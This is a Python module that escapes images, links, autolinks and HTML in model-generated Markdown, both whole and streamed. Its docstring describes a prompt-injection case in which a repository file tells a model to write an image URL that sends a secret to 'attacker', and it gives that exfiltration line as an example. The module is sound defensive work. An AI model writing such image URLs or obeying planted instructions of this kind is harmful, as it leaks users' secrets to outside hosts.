"""Model output made inert: an answer is data, and a repository file can instruct a model to write an
image whose URL carries a secret (`![](https://attacker/?q=...)`), which a Markdown renderer would fetch.

    defang_markdown(text)    images, links, autolinks and HTML tags shown as text with their target
    MarkdownStream()         the same for a stream of pieces, as they arrive (a renderer shows each prefix)

Code (fenced blocks and inline code) is left as it is: a renderer shows it as text already.
"""

from __future__ import annotations

import re

_FENCE = re.compile(r"(^[ \t]*(`{3,}|~{3,})[^\n]*\n.*?(?:^[ \t]*\2[ \t]*$|\Z))", re.MULTILINE | re.DOTALL)
_INLINE = re.compile(r"(`+)(?:.+?)\1", re.DOTALL)
_IMAGE = re.compile(r"!\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?(?:\s+[\"'][^\"'\n]*[\"'])?\s*\)")
_IMAGE_REF = re.compile(r"!\[([^\]\n]*)\]\[[^\]\n]*\]")
_LINK = re.compile(r"(?<!!)\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?(?:\s+[\"'][^\"'\n]*[\"'])?\s*\)")
_LINK_DEF = re.compile(r"^[ \t]{0,3}\[([^\]\n]+)\]:[ \t]*(\S+).*$", re.MULTILINE)
_AUTOLINK = re.compile(r"<((?:https?|ftp|file|data|javascript|mailto):[^>\s]*)>", re.IGNORECASE)
_TAG = re.compile(r"<(?=[A-Za-z/!?])")


def _prose(text: str) -> str:
    text = _IMAGE.sub(lambda m: f"[image: {m.group(1) or 'no text'}] (`{m.group(2)}`)", text)
    text = _IMAGE_REF.sub(lambda m: f"[image: {m.group(1) or 'no text'}]", text)
    text = _LINK.sub(lambda m: f"{m.group(1)} (`{m.group(2)}`)", text)
    text = _LINK_DEF.sub(lambda m: f"\\[{m.group(1)}\\]: `{m.group(2)}`", text)
    text = _AUTOLINK.sub(lambda m: f"`{m.group(1)}`", text)
    return _TAG.sub("&lt;", text)


def defang_markdown(text: str) -> str:
    """`text` with no image a renderer would fetch, no clickable link and no HTML; code untouched."""
    out = []
    for i, part in enumerate(_FENCE.split(text)):
        if i % 3 == 1:
            out.append(part)  # a fenced block
        elif i % 3 == 0:
            pos = 0
            for m in _INLINE.finditer(part):
                out.append(_prose(part[pos:m.start()]))
                out.append(m.group(0))
                pos = m.end()
            out.append(_prose(part[pos:]))
    return "".join(out)


class MarkdownStream:
    """Defangs a stream: `feed(piece)` returns the whole text so far, defanged, for a renderer that shows
    each prefix (a link or image is shown as text from its first character on)."""

    def __init__(self):
        self.text = ""

    def feed(self, piece: str) -> str:
        self.text += piece
        shown = defang_markdown(self.text)
        # an image or link still being written: its opening is shown escaped until it closes
        return shown.replace("![", "!\\[").replace("](", "]\\(")


__all__ = ["defang_markdown", "MarkdownStream"]
